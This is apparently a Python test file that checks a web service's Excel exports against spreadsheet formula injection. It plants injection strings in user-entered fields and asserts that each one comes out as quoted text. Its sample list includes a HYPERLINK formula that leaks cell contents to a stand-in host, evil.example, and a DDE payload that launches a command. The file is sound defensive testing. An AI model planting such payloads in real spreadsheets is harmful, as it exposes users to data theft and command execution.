"""Formula injection (issue 14 item 10): text that a spreadsheet would run, typed anywhere a user
can type (criteria set and item titles, unit and group names, officer names, notes, appraisers'
comments, file names), stays text in every workbook the service writes: the criteria export and
template, the units and survey templates, the consolidated, progress, scorecard, register and
audit workbooks."""

from __future__ import annotations

import io
from typing import Any

import httpx
from openpyxl import load_workbook

from core.files import FileStore
from core.models import Officer, OfficerRole, Unit, UnitGroup
from forms.answers import record_answer
from forms.models import Answer, CriteriaNode, CriteriaSet, Evidence
from forms.outline import forget_outlines
from scoring.models import Review
from tests.api.world import NOW, World, fill_and_submit

# One string per dangerous first character: "=", "+", "-", "@", tab, carriage return.
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3-DDE(1)",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=2+2",
]
# A piece of each string, found whatever text surrounds it in a cell ("Ghi chú: …").
MARKERS = ("HYPERLINK", "CMD|", "-2+3-DDE", "@SUM(1,2)", "=1+1", "=2+2")


def _cells(data: bytes) -> list[Any]:
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _assert_text_only(name: str, data: bytes, expect: int) -> None:
    """No formula built from user text; every injected string present is text with Excel's
    quote prefix; at least ``expect`` of the strings reached the workbook."""
    cells = _cells(data)
    for c in cells:
        if c.data_type == "f":
            assert not any(m in str(c.value).upper() for m in MARKERS), (name, c.coordinate)
    # case-insensitive: field rows print titles in capitals, usernames are lower-cased
    found = [
        c for c in cells if isinstance(c.value, str) and any(m in c.value.upper() for m in MARKERS)
    ]
    kinds = {i for c in found for i, m in enumerate(MARKERS) if m in c.value.upper()}
    assert len(kinds) >= expect, (name, sorted(kinds), [c.value for c in found][:10])
    for c in found:
        assert c.data_type == "s", (name, c.coordinate, c.value)
        if c.value.lstrip("\n")[:1] in ("=", "+", "-", "@", "\t") or c.value.startswith("\n"):
            assert c.quotePrefix, (name, c.coordinate, c.value)


async def _plant(world: World, store: FileStore) -> tuple[int, int]:
    """Every kind of user text, each starting with one of the injection strings."""
    await fill_and_submit(world, "SNV", "lan", store=store)
    sheet = world.sheets["SNV"]
    unit_id = sheet.unit_id  # type: ignore[attr-defined]
    set_id = sheet.criteria_set_id  # type: ignore[attr-defined]
    await CriteriaSet.filter(id=set_id).update(name=INJECTIONS[0], issuing_body=INJECTIONS[1])
    items = ["1", "1.1", "1.1.1", "1.1.2", "1.1.3", "1.2.1"]
    for code, text in zip(items, INJECTIONS, strict=True):
        await CriteriaNode.filter(criteria_set_id=set_id, code=code).update(
            title=text, guidance=text, appraising_agency=text[:200]
        )
    await Unit.filter(id=unit_id).update(name=INJECTIONS[2])
    await UnitGroup.filter(code="SO").update(name=INJECTIONS[3])
    await Officer.filter(id=world.officers["lan"].id).update(full_name=INJECTIONS[4])
    await Officer.filter(unit_id=unit_id, role=OfficerRole.leader).update(full_name=INJECTIONS[5])
    for code, text in zip(("1.1.1", "1.1.2", "1.1.3", "1.2.1"), INJECTIONS[2:], strict=True):
        answer = await Answer.get(assessment_id=sheet.id, node__code=code)
        await Answer.filter(id=answer.id).update(note=text)
        await Review.create(answer=answer, round_no=1, appraised_score=1, comment=text)
    await Evidence.filter(answer__assessment_id=sheet.id).update(original_name=INJECTIONS[5])
    forget_outlines()  # titles of a frozen set changed under the cache
    return unit_id, set_id


async def test_injection_strings_stay_text_in_every_workbook(
    api: httpx.AsyncClient, world: World, store: FileStore
) -> None:
    unit_id, set_id = await _plant(world, store)
    # an officer's note lands in the audit trail's new values (failed sign-ins of unknown
    # names are no longer audited, so the trail's user text comes from an answer)
    await record_answer(
        world.officers["khac"],
        world.sheets["STP"].id,
        "1.1.1",
        text="1",
        note=INJECTIONS[2],
        expected_version=0,
        now=NOW,
    )
    admin = world.headers("admin")
    period = world.period.id
    workbooks = {
        # name: (address, how many of the six strings must be in it at least)
        "criteria export": (f"/criteria-sets/{set_id}/export.xlsx", 6),
        "survey template": (f"/periods/{period}/survey-template.xlsx", 1),
        "consolidated": (f"/periods/{period}/exports/consolidated.xlsx", 5),
        "progress": (f"/periods/{period}/exports/progress.xlsx", 2),
        "scorecard": (f"/periods/{period}/units/{unit_id}/scorecard.xlsx", 6),
        "register": (f"/periods/{period}/units/{unit_id}/evidence-register.xlsx", 4),
        "audit": ("/audit-events/export?format=xlsx", 1),
    }
    for name, (url, expect) in workbooks.items():
        r = await api.get(url, headers=admin)
        assert r.status_code == 200, (name, r.text[:300])
        _assert_text_only(name, r.content, expect)
    # the templates without user text hold no formula at all
    for url in ("/criteria-sets/template.xlsx", "/units-template.xlsx"):
        r = await api.get(url, headers=admin)
        assert r.status_code == 200, url
        assert not [c for c in _cells(r.content) if c.data_type == "f"], url
